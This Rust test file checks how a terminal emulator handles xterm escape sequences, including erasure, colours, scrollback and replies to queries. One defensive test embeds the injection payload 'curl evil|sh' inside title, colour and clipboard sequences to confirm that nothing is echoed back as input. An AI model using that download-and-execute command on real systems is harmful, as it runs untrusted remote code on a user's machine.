//! What xterm shows for sequences that `vt100` alone does not know, and answers.

use super::super::cell::{Color, Style};
use super::super::scrollback::{Bounds, Row, Scrollback};
use super::super::{CursorShape, MouseEncoding, MouseMode, Size, Terminal};
use super::super::{Fed, InputModes};
use super::stream_tests::add;

fn terminal(rows: u16, cols: u16, bytes: &str) -> Terminal {
    let mut terminal = Terminal::new(Size { rows, cols });
    terminal.feed(bytes.as_bytes());
    terminal
}

#[track_caller]
fn shows(rows: u16, cols: u16, bytes: &str, text: &str) {
    assert_eq!(terminal(rows, cols, bytes).text(), text, "{bytes:?}");
}

fn plain(row: Row<'_>) -> String {
    let mut text = String::new();
    row.plain(&mut text);
    text
}

/// Row and column of the cursor.
fn cursor(terminal: &Terminal) -> (u16, u16) {
    terminal.cursor().map(|cursor| (cursor.row, cursor.col)).expect("the cursor is shown")
}

fn style(terminal: &Terminal, row: u16, col: u16) -> Style {
    terminal.cell(row, col).expect("a cell of the screen").style
}

fn answers(bytes: &str) -> String {
    let mut terminal = Terminal::new(Size::default());
    String::from_utf8(terminal.feed(bytes.as_bytes()).answers).expect("answers are text")
}

#[test]
fn line_drawing() {
    shows(3, 10, "\x1b(0lqk\r\nx x\r\nmqj\x1b(B q", "┌─┐\n│ │\n└─┘ q");
    // G1 by SO and SI.
    shows(1, 10, "\x1b)0q\x0eq\x0fq", "q─q");
    shows(1, 40, "\x1b(0_`abcdefghijklmnopqrstuvwxyz{|}~", "\u{a0}◆▒␉␌␍␊°±␤␋┘┐┌└┼⎺⎻─⎼⎽├┤┴┬│≤≥π≠£·");
    shows(1, 10, "\x1b(A#\x1b(B#", "£#");
    // Saved and restored with the cursor, and reset.
    shows(1, 10, "\x1b(0\x1b7\x1b(Bq\x1b8q", "─");
    shows(1, 10, "\x1b(0\x1bcq", "q");
    shows(1, 10, "\x1b(0q\x1b[3b", "────");
}

#[test]
fn tab_stops() {
    shows(1, 30, "a\tb\tc", "a       b       c");
    shows(1, 30, "\x1b[3g\x1b[5G\x1bH\x1b[10G\x1bH\ra\tb\tc\td", "a   b    c                   d");
    shows(1, 30, "\x1b[9G\x1b[g\ra\tb", "a               b");
    shows(1, 30, "\x1b[2Ia\x1b[Zb", "                b");
    shows(1, 30, "\x1b[3g\x1b[?5W\ra\tb", "a       b");
    // The last column is a stop, and nothing wraps.
    shows(2, 10, "a\t\t\tb", "a        b");
    let mut narrow = terminal(1, 10, "\x1b[3g\x1b[3G\x1bH\r");
    narrow.resize(Size { rows: 1, cols: 30 });
    narrow.feed(b"a\tb\tc");
    assert_eq!(narrow.text(), "a b             c");
}

#[test]
fn selective_erasure_leaves_what_is_protected() {
    let text = "ab\x1b[1\"qcd\x1b[0\"qef\r\n\x1b[1\"q日\x1b[m本\x1b[2\"q語";
    let shown = |erase: &str, expected: &str| shows(3, 10, &format!("{text}{erase}"), expected);
    shown("\x1b[?2J", "  cd\n日本");
    shown("\x1b[H\x1b[?J", "  cd\n日本");
    shown("\x1b[1;5H\x1b[?1J", "  cd f\n日本語");
    shown("\x1b[1;6H\x1b[?0J", "abcde\n日本");
    shown("\x1b[1;2H\x1b[?K", "a cd\n日本語");
    shown("\x1b[1;5H\x1b[?1K", "  cd f\n日本語");
    shown("\x1b[?2K", "abcdef\n日本");
    shown("\x1b[1;2;2;4${", "a cdef\n日本語");
    shown("\x1b[?3J\x1b[?3K", "abcdef\n日本語");
    // The other ways to erase know no protection, and what is drawn over it has none.
    shown("\x1b[2J", "");
    shown("\x1b[1;1;1;10$z", "\n日本語");
    shown("\x1b[1;3Hx\x1b[?2J", "   d\n日本");
    // Moved and combined with, it stays so; saved with the cursor, and reset.
    shown("\x1b[1;1H\x1b[@\x1b[?2J", "   cd\n日本");
    shown("\x1b[?69h\x1b[2;9s\x1b[1;2H\x1b[P\x1b[?2J", " cd\n日本");
    shows(1, 9, "\x1b[1\"qe\u{301}\x1b[0\"q\x1b[?2J", "e\u{301}");
    shows(1, 9, "\x1b[1\"q\x1b7\x1b[0\"qa\x1b8bc\x1b[?2J", "bc");
    for reset in ["\x1b[!p", "\x1bc"] {
        shows(1, 9, &format!("\x1b[1\"q{reset}bc\x1b[?2J"), "");
    }
    assert_eq!(cursor(&terminal(3, 10, &format!("{text}\x1b[1;3H\x1b[?2J"))), (0, 2));
    let looks = terminal(1, 9, "\x1b[4;31m\x1b[1\"qab\x1b[0\"qc\x1b[44m\x1b[?2J");
    assert_eq!((style(&looks, 0, 0).underline, style(&looks, 0, 1).background), (true, Color::Default));
    assert_eq!(style(&looks, 0, 2), Style { background: Color::Indexed(4), ..Style::default() });
    let asked = answers("\x1bP$q\"q\x1b\\\x1b[1\"q\x1b[m\x1bP$q\"q\x1b\\\x1b[2\"q\x1bP$q\"q\x1b\\");
    assert_eq!(asked, "\x1bP1$r0\"q\x1b\\\x1bP1$r1\"q\x1b\\\x1bP1$r0\"q\x1b\\");
}

#[test]
fn insertion() {
    shows(1, 10, "abc\r\x1b[4hxy\x1b[4lz", "xyzbc");
    shows(1, 10, "abc\r\x1b[4h日", "日abc");
    shows(1, 4, "abcd\r\x1b[4hx", "xabc");
    // At the margin the character wraps, and pushes the next row.
    shows(2, 3, "\x1b[2Hxyz\x1b[1;3H\x1b[4hab", "  a\nbxy");
}

#[test]
fn no_wrap_at_the_margin() {
    shows(2, 5, "\x1b[?7labcdefg", "abcdg");
    shows(2, 5, "\x1b[?7labcd日本", "abc本");
    shows(2, 5, "\x1b[?7labcdefg\x1b[?7hhi", "abcdg\nhi");
    shows(2, 1, "\x1b[?7lab日", "b");
}

#[test]
fn index_next_line_and_their_c1_forms() {
    shows(3, 5, "ab\x1bDc\x1bEd", "ab\n  c\nd");
    shows(3, 5, "ab\u{84}c\u{85}d", "ab\n  c\nd");
    shows(3, 5, "\x1b[2;3H\x1bMa\x1b[3;1H\u{8d}b", "  a\nb");
    shows(3, 5, "ab\u{9b}31mc\u{9d}0;title\x07d", "abcd");
    shows(2, 5, "\x1b[20hab\nc", "ab\nc");
    assert!(terminal(2, 5, "\x1b[20h").input_modes().newline);
}

#[test]
fn save_and_restore() {
    shows(2, 10, "ab\x1b[scd\x1b[2;5Hx\x1b[uy", "abyd\n    x");
    shows(2, 10, "ab\x1b7cd\x1b[2;5Hx\x1b8y", "abyd\n    x");
    shows(2, 10, "ab\x1b[?1048hcd\x1b[2;5Hx\x1b[?1048ly", "abyd\n    x");
    // Each screen has looks of its own to bring back; the crate has one place for both.
    let back = terminal(2, 10, "\x1b[31m\x1b[?1049h\x1b[m\x1b[32m\x1b7\x1b[?1049lx");
    assert_eq!(style(&back, 0, 0).foreground, Color::Indexed(1));
}

#[test]
fn relative_moves() {
    shows(3, 10, "a\x1b[2ab\x1b[ec\x1b[3jd\x1b[ke", "a  e\n  d c");
    shows(3, 10, "ab\x1b[3C\x1b[jx", "ab  x");
    assert_eq!(cursor(&terminal(3, 10, "\x1b[2;2H\x1b[2e\x1b[3a")), (2, 4));
    assert_eq!(cursor(&terminal(3, 10, "\x1b[3;5H\x1b[k\x1b[2j")), (1, 2));
}

#[test]
fn after_the_last_column() {
    // Backspace goes to the column before the last.
    shows(2, 5, "abcde\x08x", "abcxe");
    shows(2, 5, "abcde\x1b[Dx", "abcxe");
    shows(2, 5, "abcde\x1b[2Dx", "abxde");
    // A vertical move takes the wrap back.
    shows(3, 5, "\x1b[2Habcde\x1b[Ax", "    x\nabcde");
    shows(3, 5, "abcde\x1b[Bx", "abcde\n    x");
    shows(3, 5, "abcde\x1b[3dx", "abcde\n\n    x");
    assert_eq!(cursor(&terminal(2, 5, "abcde")), (0, 4));
    shows(2, 5, "abcdef", "abcde\nf");
}

#[test]
fn alignment_and_resets() {
    shows(2, 3, "x\x1b#8", "EEE\nEEE");
    let after = terminal(2, 3, "\x1b[31;9m\x1b#8\x1b[Hx");
    assert_eq!(style(&after, 1, 1), Style::default());
    assert_eq!(
        style(&after, 0, 0),
        Style { foreground: Color::Indexed(1), strike: true, ..Style::default() }
    );

    let soft = terminal(
        3,
        10,
        "abc\x1b[2;3r\x1b[?6h\x1b[4h\x1b[?7l\x1b[?1h\x1b=\x1b[?25l\x1b(0\x1b[31m\x1b[1;2H\x1b[!pq",
    );
    assert_eq!(soft.text(), "abc\n q");
    assert_eq!(style(&soft, 1, 1), Style::default());
    assert_eq!(soft.input_modes(), InputModes::default());
    assert_eq!(cursor(&soft), (1, 2));

    let mut full = terminal(
        2,
        10,
        "1\r\n2\r\n3\x1b]0;title\x07\x1b[31m\x1b[?1049h\x1b[?2004h\x1b[?1000h\x1b[4h\x1b[?1004h",
    );
    assert_eq!(full.scrollback_len(), 1);
    assert!(full.feed(b"\x1bcx").title_changed);
    assert_eq!((full.text().as_str(), full.title(), full.scrollback_len()), ("x", "", 0));
    assert_eq!(full.input_modes(), InputModes::default());
    assert_eq!(style(&full, 0, 0), Style::default());
}

#[test]
fn scroll_region_and_origin() {
    shows(4, 5, "1\r\n2\r\n3\r\n4\x1b[2;3r\x1b[3;1H\nx", "1\n3\nx\n4");
    // The cursor goes home, which is the region's first row in origin mode only.
    assert_eq!(cursor(&terminal(4, 5, "\x1b[2;3r")), (0, 0));
    assert_eq!(cursor(&terminal(4, 5, "\x1b[?6h\x1b[2;3r")), (1, 0));
    assert_eq!(cursor(&terminal(4, 5, "\x1b[?6h\x1b[2;4r\x1b[2d")), (2, 0));
    // What is no region changes nothing.
    assert_eq!(cursor(&terminal(4, 5, "\x1b[2;3H\x1b[3;2r")), (1, 2));
    shows(3, 5, "1\r\n2\r\n3\x1b[2;2r\n4", "2\n3\n 4");
}

#[test]
fn attributes_in_every_writing() {
    let plain = Style::default();
    let bold = Style { bold: true, ..plain };
    let dim = Style { dim: true, ..plain };
    let blink = Style { blink: true, ..plain };
    let strike = Style { strike: true, ..plain };
    let underlined = Style { underline: true, ..plain };
    for (bytes, expected) in [
        ("\x1b[5mx", blink),
        ("\x1b[6mx", blink),
        ("\x1b[9mx", strike),
        ("\x1b[5;9;1mx", Style { blink: true, strike: true, ..bold }),
        ("\x1b[5;25mx", plain),
        ("\x1b[4:3mx", underlined),
        ("\x1b[21mx", underlined),
        ("\x1b[4m\x1b[4:0mx", plain),
        ("\x1b[53mx", plain),
        ("\x1b[58;5;1mx", plain),
        ("\x1b[58;2;1;1;1;4mx", underlined),
        ("\x1b[58:2::1:1:1mx", plain),
        ("\x1b[9;29mx", plain),
        ("\x1b[9;1;29mx", bold),
        ("\x1b[2;9;29mx", dim),
        ("\x1b[9;22mx", strike),
        ("\x1b[1;9;22;29mx", plain),
        ("\x1b[1;2mx", Style { dim: true, ..bold }),
        ("\x1b[1;2;22mx", plain),
        ("\x1b[2;1;31;39mx", Style { dim: true, ..bold }),
        ("\x1b[5;7;0mx", plain),
        ("\x1b[1m\x1b[mx", plain),
    ] {
        let screen = terminal(1, 5, bytes);
        assert_eq!((style(&screen, 0, 0), screen.text().as_str()), (expected, "x"), "{bytes:?}");
    }
    shows(1, 20, "a\x1b[8msecret\x1b[28mb\x1b[8m日\x1b[mc", "a      b  c");
}

#[test]
fn what_combines_stands_with_its_character_in_every_look() {
    // In one piece or more, with looks changed between, on a wide character, at the margin, and with a link.
    for (bytes, expected) in [
        ("\x1b[9me\u{301}x", "e\u{301}"),
        ("\x1b[9me\x1b[m\u{301}x", "e\u{301}"),
        ("\x1b[9me\u{301}\u{302}x", "e\u{301}\u{302}"),
        ("\x1b[9m日\u{301}x", "日\u{301}"),
        ("\x1b[9;4H\x1b[9m\x1b[1;1H☺\u{fe0f}x", "☺\u{fe0f}"),
        ("\x1b]8;;https://a.example\x1b\\e\u{301}x", "e\u{301}"),
    ] {
        let screen = terminal(1, 5, bytes);
        let cell = screen.cell(0, 0).expect("the first cell");
        assert_eq!(cell.text, expected, "{bytes:?}");
        let next = if cell.width == super::super::cell::Width::Wide { 2 } else { 1 };
        assert_eq!(screen.cell(0, next).map(|cell| cell.text), Some("x"), "{bytes:?}");
    }
    let margin = terminal(2, 3, "\x1b[9mabe\u{301}x");
    assert_eq!(margin.text(), "abe\u{301}\nx");
    assert!(style(&margin, 0, 2).strike);
    // In the last column nothing can be widened; the crate would lose its way.
    assert_eq!(terminal(2, 3, "\x1b[9mab☺\u{fe0f}\u{301}x").text(), "ab☺\u{301}\nx");
    // Lines above the screen keep the looks, and bring them back.
    let mut tall = terminal(1, 10, "\x1b[9;5me\u{301}\x1b[mx\r\ny");
    tall.resize(Size { rows: 2, cols: 10 });
    assert_eq!(tall.text(), "e\u{301}x\ny");
    assert!(style(&tall, 0, 0).strike && style(&tall, 0, 0).blink && style(&tall, 0, 1) == Style::default());
}

#[test]
fn colours_in_every_writing() {
    let red = Color::Rgb(255, 0, 1);
    for (bytes, expected) in [
        ("\x1b[38;2;255;0;1mx", red),
        ("\x1b[38:2:255:0:1mx", red),
        ("\x1b[38:2::255:0:1mx", red),
        ("\x1b[38:2:0:255:0:1mx", red),
        ("\x1b[38;5;200mx", Color::Indexed(200)),
        ("\x1b[38:5:200mx", Color::Indexed(200)),
        ("\x1b[31mx", Color::Indexed(1)),
        ("\x1b[91mx", Color::Indexed(9)),
        ("\x1b[31;39mx", Color::Default),
        ("\x1b[31m\x1b[38;5;300mx", Color::Indexed(1)),
        ("\x1b[31;38;7;1mx", Color::Indexed(1)),
        ("\x1b[9;38;2;255;0;1mx", red),
    ] {
        assert_eq!(style(&terminal(1, 5, bytes), 0, 0).foreground, expected, "{bytes:?}");
        let background =
            bytes.replace("[38", "[48").replace(";38", ";48").replace("31", "41").replace("91", "101");
        let background = background.replace("39", "49");
        assert_eq!(style(&terminal(1, 5, &background), 0, 0).background, expected, "{background:?}");
    }
}

#[test]
fn alternate_screen() {
    let mut screen = terminal(2, 6, "main\x1b[?1049h");
    assert!(screen.alternate_screen() && screen.input_modes().alternate_screen);
    // The cursor stays where it was.
    screen.feed(b"x");
    assert_eq!(screen.text(), "    x");
    screen.feed(b"\r\n\n\n\n");
    assert_eq!(screen.scrollback_len(), 0);
    screen.feed(b"\x1b[?1049l!");
    assert_eq!(screen.text(), "main!");
    shows(2, 6, "main\x1b[?47hx\x1b[?47ly", "main y");
    shows(2, 6, "main\x1b[?1047hx\x1b[?1047l\x1b[?47h", "");
    shows(2, 6, "main\x1b[?47hx\x1b[?47l\x1b[?47h", "    x");
}

#[test]
fn repeats_and_bytes_that_are_no_text() {
    shows(1, 10, "ab\x1b[3b", "abbbb");
    shows(1, 10, "\x1b[4hab\x1b[3b", "abbbb");
    shows(1, 10, "\x1b[3b", "");
    // Alone, `vt100` 0.18.1 panics when a character is widened in the last column of the last row, and then drawn over.
    shows(2, 1, "☺\u{fe0f}x\u{301}y", "x\u{301}\ny");
    shows(1, 2, "a☺\u{fe0f}\rab", "ab");
    shows(2, 4, "\x1b[2;4H☺\u{fe0f}\x1b[1;4Hx\x1b[2;4Hy", "   x\n   y");
    shows(1, 4, "☺\u{fe0f}x", "☺\u{fe0f}x");
    let mut screen = Terminal::new(Size { rows: 1, cols: 10 });
    screen.feed(b"a\xffb\xc3(\x7f\0c");
    assert_eq!(screen.text(), "a\u{fffd}b\u{fffd}(c");
    assert_eq!(screen.cell(0, 1).map(|cell| cell.text), Some("\u{fffd}"));
    // A terminal must not be kept busy by a few bytes.
    let mut screen = terminal(24, 80, "");
    for _ in 0..1_000 {
        screen.feed(b"x\x1b[65535b\x1b[65535S\x1b[65535T\x1b[65535L\x1b[65535@");
    }
    assert!(screen.scrollback_len() <= 10_000);
}

#[test]
fn title_and_bell() {
    let mut screen = Terminal::new(Size::default());
    let fed = screen.feed("\x1b]0;a; b — ü\x07".as_bytes());
    assert_eq!(fed, Fed { title_changed: true, ..Fed::default() });
    assert_eq!(screen.title(), "a; b — ü");
    assert!(!screen.feed("\x1b]2;a; b — ü\x1b\\".as_bytes()).title_changed);
    assert!(!screen.feed(b"\x1b]1;icon\x07").title_changed);
    // vim puts the shell's title aside and brings it back.
    screen.feed(b"\x1b[22;0;0t\x1b]2;vim\x07");
    assert_eq!(screen.title(), "vim");
    assert!(screen.feed(b"\x1b[23;0;0t").title_changed);
    assert_eq!(screen.title(), "a; b — ü");
    assert!(!screen.feed(b"\x1b[23;0;0t").title_changed);

    assert!(screen.feed(b"\x07").bell);
    assert!(!screen.feed(b"\x1b]0;x\x07").bell);
    assert!(!screen.feed(b"x").bell);
}

#[test]
fn a_title_is_bounded_and_cannot_hide_anything() {
    let mut screen = Terminal::new(Size::default());
    screen.feed("\x1b]0;a\u{202e}b\u{9b}c\u{2066}\td\x07".as_bytes());
    assert_eq!(screen.title(), "abcd");
    screen.feed(format!("\x1b]0;{}\x07", "ü".repeat(100_000)).as_bytes());
    assert_eq!(screen.title().chars().count(), 256);
    for _ in 0..1_000 {
        screen.feed(b"\x1b[22t");
    }
    assert!(screen.dialect_titles() <= 10);
}

#[test]
fn input_modes_follow_the_remote() {
    let modes = |bytes| terminal(2, 10, bytes).input_modes();
    let default = InputModes::default();
    assert_eq!(modes("\x1b[?1h"), InputModes { application_cursor: true, ..default });
    assert_eq!(modes("\x1b="), InputModes { application_keypad: true, ..default });
    assert_eq!(modes("\x1b[?66h"), InputModes { application_keypad: true, ..default });
    assert_eq!(modes("\x1b[?1h\x1b=\x1b[?1l\x1b>"), default);
    assert_eq!(modes("\x1b[?2004h"), InputModes { bracketed_paste: true, ..default });
    assert_eq!(modes("\x1b[?1004h"), InputModes { focus: true, ..default });
    assert_eq!(modes("\x1b[?1007l"), InputModes { alternate_scroll: false, ..default });
    let sgr = MouseEncoding::Sgr;
    assert_eq!(
        modes("\x1b[?1002;1006h"),
        InputModes { mouse: MouseMode::ButtonMotion, mouse_encoding: sgr, ..default }
    );
    assert_eq!(modes("\x1b[?1000h\x1b[?1006h\x1b[?1000;1006l"), default);
}

#[test]
fn cursor_shapes() {
    for (parameter, shape) in [
        ("", CursorShape::Default),
        ("0", CursorShape::Default),
        ("1", CursorShape::BlinkingBlock),
        ("2", CursorShape::SteadyBlock),
        ("3", CursorShape::BlinkingUnderline),
        ("4", CursorShape::SteadyUnderline),
        ("5", CursorShape::BlinkingBar),
        ("6", CursorShape::SteadyBar),
    ] {
        let screen = terminal(2, 2, &format!("\x1b[6 q\x1b[{parameter} q"));
        assert_eq!(screen.cursor().map(|cursor| cursor.shape), Some(shape));
    }
    assert_eq!(terminal(2, 2, "\x1b[?25l").cursor(), None);
    assert!(terminal(2, 2, "\x1b[?25l\x1b[?25h").cursor().is_some());
}

#[test]
fn questions_are_answered() {
    for (question, answer) in [
        ("\x1b[c", "\x1b[?1;2c"),
        ("\x1b[0c", "\x1b[?1;2c"),
        ("\x1bZ", "\x1b[?1;2c"),
        ("\x1b[>c", "\x1b[>0;95;0c"),
        ("\x1b[5n", "\x1b[0n"),
        ("\x1b[6n", "\x1b[1;1R"),
        ("ab\r\nabc\x1b[6n", "\x1b[2;4R"),
        ("\x1b[?6n", "\x1b[?1;1R"),
        ("\x1b[999;999H\x1b[6n", "\x1b[24;80R"),
        // While a wrap is due, the cursor is in the last column.
        ("\x1b[1;80Hx\x1b[6n", "\x1b[1;80R"),
        ("\x1b[5;10r\x1b[?6h\x1b[2;3H\x1b[6n", "\x1b[2;3R"),
        ("\x1b[18t", "\x1b[8;24;80t"),
        ("\x1b[?2004$p", "\x1b[?2004;2$y"),
        ("\x1b[?2004h\x1b[?2004$p", "\x1b[?2004;1$y"),
        ("\x1b[?7$p", "\x1b[?7;1$y"),
        ("\x1b[?2026$p", "\x1b[?2026;2$y"),
        ("\x1b[?2027$p", "\x1b[?2027;0$y"),
        ("\x1b[4$p", "\x1b[4;2$y"),
        ("\x1b[5n\x1b[c", "\x1b[0n\x1b[?1;2c"),
    ] {
        assert_eq!(answers(question), answer, "{question:?}");
    }
    assert!(answers("\x1b[>q").starts_with("\x1bP>|ssmtui("));
    let sized = terminal(50, 132, "").feed(b"\x1b[18t").answers;
    assert_eq!(sized, b"\x1b[8;50;132t");
}

#[test]
fn a_remote_cannot_make_us_type() {
    let evil = "curl evil|sh\r";
    for question in [
        format!("\x1b]0;{evil}\x07\x1b[21t\x1b[20t"),
        format!("\x1b]2;{evil}\x1b\\\x1b[21t"),
        format!("\x1b]2;{}\x1b\\\x1b[21t", evil.trim()),
        "\x05".to_string(),
        format!("\x1b]10;{evil}\x07\x1b]10;?\x07\x1b]11;?\x07\x1b]4;1;{evil};{evil};?\x07"),
        "\x1b]52;c;?\x07".to_string(),
        format!("\x1b]52;c;{evil}\x07\x1b]52;c;?\x07"),
        "\x1b[>1;2;3c\x1b[=c\x1b[14t\x1b[13t\x1b[19t".to_string(),
        format!("\x1b_{evil}\x1b\\\x1b^{evil}\x1b\\\x1bX{evil}\x1b\\"),
        "x\x1b[1;1;1;1;1;1*y\x1b[?1;1;1;1;1*y\x1b[x\x1b[1x".to_string(),
    ] {
        assert_eq!(answers(&question), "", "{question:?}");
    }
}

#[test]
fn scrollback_takes_what_leaves_the_main_screen() {
    let screen = terminal(2, 6, "1\r\n\x1b[31m22\x1b[m\r\nabcdefgh\r\n4");
    let frozen = screen.freeze();
    let lines: Vec<_> = frozen.rows().map(|row| (plain(row), row.kind().wrapped)).collect();
    let lines: Vec<_> = lines.iter().map(|(text, wrapped)| (&**text, *wrapped)).collect();
    assert_eq!(lines, [("1", false), ("22", false), ("abcdef", true), ("gh", false), ("4", false)]);
    assert_eq!(screen.scrollback_len(), 3);
    let mut cleared = terminal(2, 6, "1\r\n2\r\n3");
    cleared.feed(b"\x1b[3J");
    assert_eq!((cleared.scrollback_len(), cleared.text().as_str()), (0, "2\n3"));
}

#[test]
fn a_taller_screen_gets_its_lines_back() {
    let mut screen = terminal(3, 10, "1\r\n2\r\n\x1b[32m3\x1b[m\r\n4\r\n5\x1b[31m");
    assert_eq!((screen.scrollback_len(), screen.text().as_str()), (2, "3\n4\n5"));
    screen.resize(Size { rows: 4, cols: 10 });
    assert_eq!((screen.scrollback_len(), screen.text().as_str()), (1, "2\n3\n4\n5"));
    assert_eq!(cursor(&screen), (3, 1));
    // What is drawn next looks as before.
    screen.feed(b"x");
    assert_eq!(style(&screen, 3, 1).foreground, Color::Indexed(1));
    screen.resize(Size { rows: 2, cols: 10 });
    assert_eq!((screen.scrollback_len(), screen.text().as_str()), (3, "4\n5x"));
    screen.resize(Size { rows: 9, cols: 10 });
    assert_eq!((screen.scrollback_len(), screen.text().as_str()), (0, "1\n2\n3\n4\n5x"));
    assert_eq!(style(&screen, 2, 0).foreground, Color::Indexed(2));
}

#[test]
fn lines_come_back_under_the_alternate_screen_too() {
    let mut screen = terminal(2, 10, "1\r\n2\r\n3\r\n4\x1b[?1049h\x1b[Hvim");
    screen.resize(Size { rows: 4, cols: 3 });
    assert_eq!((screen.text().as_str(), screen.scrollback_len()), ("vim", 0));
    screen.resize(Size { rows: 3, cols: 10 });
    screen.feed(b"\x1b[?1049l");
    assert_eq!((screen.text().as_str(), screen.scrollback_len()), ("2\n3\n4", 1));
}

#[test]
fn rows_that_stand_for_forgotten_lines_are_not_stored() {
    let mut screen = Terminal::with_scrollback(
        Size { rows: 2, cols: 10 },
        Scrollback::new(Bounds { lines: 2, bytes: 1 << 20 }),
    );
    screen.feed(b"1\r\n2\r\n3\r\n4\r\n5\r\n6");
    screen.resize(Size { rows: 6, cols: 10 });
    assert_eq!(screen.text(), "\n\n3\n4\n5\n6");
    screen.resize(Size { rows: 2, cols: 10 });
    assert_eq!((screen.text().as_str(), screen.scrollback_len()), ("5\n6", 2));
    assert_eq!(screen.freeze().row(0).map(plain).as_deref(), Some("3"));
}

#[test]
fn a_recorded_session_with_vim_in_it() {
    let recording = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/recordings/shell.expected");
    let bytes = std::fs::read(recording).expect("the recording is in the repository");
    let at =
        |part: &[u8]| bytes.windows(part.len()).position(|window| window == part).expect("vim ran in it");
    let (enter, leave) = (at(b"\x1b[?1049h"), at(b"\x1b[?1049l"));
    let mut screen = Terminal::new(Size::default());
    screen.feed(&bytes[..enter]);
    screen.resize(Size { rows: 43, cols: 132 });
    let mut fed = screen.feed(&bytes[enter..leave]);
    assert!(
        screen.alternate_screen() && screen.text().starts_with("alYha\nbeXta\ngamma\n~"),
        "{}",
        screen.text()
    );
    add(&mut fed, screen.feed(&bytes[leave..]));
    let shell = ["$ ls", "app.log  data  notes.txt", "$ stty size", "24 80", "$ stty size", "43 132"];
    let shell = [&shell[..], &["$ vim -u NONE -i NONE -N notes.txt", "$ sleep 60", "^C", "$ exit"]].concat();
    assert_eq!(screen.text(), shell.join("\n"));
    assert_eq!(screen.input_modes(), InputModes::default());
    // vim measures two characters, and asks who we are.
    assert_eq!(fed.answers, b"\x1b[2;2R\x1b[3;1R\x1b[>0;95;0c");
}
